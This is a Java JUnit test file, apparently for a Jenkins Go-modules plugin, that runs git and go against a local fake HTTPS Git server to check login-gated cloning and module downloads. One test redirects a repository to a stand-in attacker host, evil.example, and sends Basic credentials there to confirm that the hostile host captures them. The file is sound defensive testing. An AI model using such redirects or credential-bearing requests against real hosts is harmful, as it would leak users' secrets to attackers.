package io.jenkins.plugins.gomodules.testing;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;

/** The machine's own git and go take it for a Git host of that name, and it sees what they show. */
@Timeout(120)
@Execution(ExecutionMode.CONCURRENT)
class HttpsGitServerTest {

    private static final String LOGIN = "Basic " + base64("robot:sesame");

    @TempDir
    Path dir;

    private GitRepositories repositories;
    private HttpsGitServer server;
    private HostileHost hostile;
    private LoopbackForwardProxy forward;
    private final Map<String, String> variables = new TreeMap<>();

    @BeforeEach
    void setUp() throws Exception {
        repositories = GitRepositories.inOrSkip(dir.resolve("repositories"));
        TestCertificate certificate = TestCertificate.create(dir, "git.corp.example", "evil.example");
        server = HttpsGitServer.start("127.0.0.2", certificate, repositories.root());
        hostile = HostileHost.start("127.0.0.3", certificate);
        forward =
                LoopbackForwardProxy.start().map("git.corp.example:443", server).map("evil.example:443", hostile);
        variables.putAll(certificate.environment());
        variables.putAll(
                Map.of("HOME", dir.toString(), "GIT_CONFIG_NOSYSTEM", "1", "GIT_TERMINAL_PROMPT", "0", "no_proxy", ""));
        variables.putAll(Map.of("https_proxy", forward.url(), "HTTPS_PROXY", forward.url(), "NO_PROXY", ""));
    }

    @AfterEach
    void tearDown() {
        server.close();
        hostile.close();
        forward.close();
        Trees.makeDeletable(dir);
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private String git(String... arguments) throws Exception {
        List<String> command = new ArrayList<>(List.of("git"));
        command.addAll(List.of(arguments));
        ProcessBuilder builder =
                new ProcessBuilder(command).directory(dir.toFile()).redirectErrorStream(true);
        builder.environment().putAll(variables);
        Process process = builder.start();
        String text = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        process.waitFor();
        return text;
    }

    @Test
    void clonesForThoseWhoLogInByPath() throws Exception {
        String commit = repositories.module("git.corp.example/team/lib.git", "v1.0.0", "go 1.20\n");
        repositories.module("git.corp.example/open/lib.git", "v1.0.0", "go 1.20\n");
        server.requireLogin("team", "somebody", "else").requireLogin("team/lib", "robot", "sesame");

        assertEquals("", git("clone", "--quiet", "https://git.corp.example/open/lib.git", "open"));
        assertEquals(List.of(), server.offers("Authorization"));

        String denied = git("ls-remote", "https://git.corp.example/team/lib.git");
        assertTrue(denied.contains("could not read Username for 'https://git.corp.example'"), denied);

        String url = "https://robot:sesame@git.corp.example/team/lib.git";
        assertEquals(commit + "\trefs/tags/v1.0.0\n", git("ls-remote", url, "v1.0.0"));
        assertEquals("", git("clone", "--quiet", url, "closed"));
        assertTrue(Files.exists(dir.resolve("closed/go.mod")));
        assertEquals(
                new Offer("/team/lib.git/info/refs", LOGIN),
                server.offers("Authorization").get(0));

        String push = git("-C", "closed", "push", "origin", "HEAD:other");
        assertTrue(push.contains("not found") || push.contains("403"), push);
    }

    @Test
    void theHostileHostSeesWhatIsBroughtToIt() throws Exception {
        server.redirect("team", "https://evil.example/stolen");
        String text = git("ls-remote", "https://git.corp.example/team/lib.git");
        assertTrue(text.contains("https://evil.example"), text);
        assertEquals("/stolen/lib.git/info/refs", hostile.requests().get(0).path());
        assertEquals(List.of(), hostile.offered());

        git("ls-remote", "https://robot:sesame@evil.example/lib.git");
        assertEquals(List.of(new Offer("/lib.git/info/refs", LOGIN)), hostile.offered());
    }

    @Test
    void pagesLeadTheGoCommandToRepositories() throws Exception {
        repositories.module("git.corp.example/team/lib", "v1.2.0", "go 1.20\n");
        GoTool go = GoTool.orSkip(dir.resolve("home")).proxy("direct").with("GIT_ALLOW_PROTOCOL", "https");
        variables.forEach(go::with);
        go.with("HOME", dir.resolve("home").toString()).with("GOVCS", "*:git");
        String goImport = "git.corp.example/team/lib git https://git.corp.example/team/lib.git";
        String[] download = {"mod", "download", "git.corp.example/team/lib@v1.2.0"};

        server.goImport("team/lib", goImport);
        go.run(dir, download).orFail();
        assertEquals(List.of(), server.offers("Authorization"));

        server.requireLogin("team", "robot", "sesame").goImportBehindLogin("team/lib", goImport);
        go.modCache(dir.resolve("second"));
        String denied = go.run(dir, download).err();
        assertTrue(denied.contains("401 Unauthorized"), denied);
        Path netrc = Files.writeString(dir.resolve("netrc"), "machine git.corp.example login robot password sesame\n");
        go.with("NETRC", netrc.toString()).run(dir, download);
        assertTrue(server.offers("Authorization").contains(new Offer("/team/lib", LOGIN)), server.requests()::toString);
    }
}
